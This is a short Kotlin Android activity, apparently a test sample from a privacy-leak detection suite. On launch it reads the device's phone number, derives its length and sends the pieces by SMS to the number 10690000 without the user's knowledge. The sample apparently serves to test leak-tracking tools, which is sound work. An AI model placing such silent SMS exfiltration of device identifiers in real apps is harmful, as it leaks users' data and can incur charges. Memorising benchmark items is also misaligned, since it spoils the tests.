package cn.privlens.suite.sequence_builder_sizes

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

class Main : Activity() {
    private fun parts(id: String) = sequence {
        yield("head")
        yield(id.length.toString())
        yield("tail")
    }
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        for (part in parts((getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).line1Number)) {
            SmsManager.getDefault().sendTextMessage("10690000", null, part, null, null)
        }
    }
}
